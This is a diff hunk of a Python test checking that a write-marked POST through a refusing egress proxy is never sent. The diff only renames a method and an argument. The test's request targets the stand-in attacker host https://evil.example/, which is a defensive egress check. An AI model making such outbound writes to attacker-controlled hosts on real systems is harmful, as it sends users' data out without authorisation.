@@ -176,7 +176,7 @@ def test_a_way_out_that_refuses_is_certainly_not_posted(egress, monkeypatch):
     monkeypatch.setattr(client.options, "proxy", f"http://127.0.0.1:{egress.port}")
 
     async def post(connector):
-        return await connector.exchange("POST", "https://evil.example/", changes=True)
+        return await connector.send("POST", "https://evil.example/", writes=True)
 
     with pytest.raises(TryLater):
         client.call("facebook", post, writes=True)
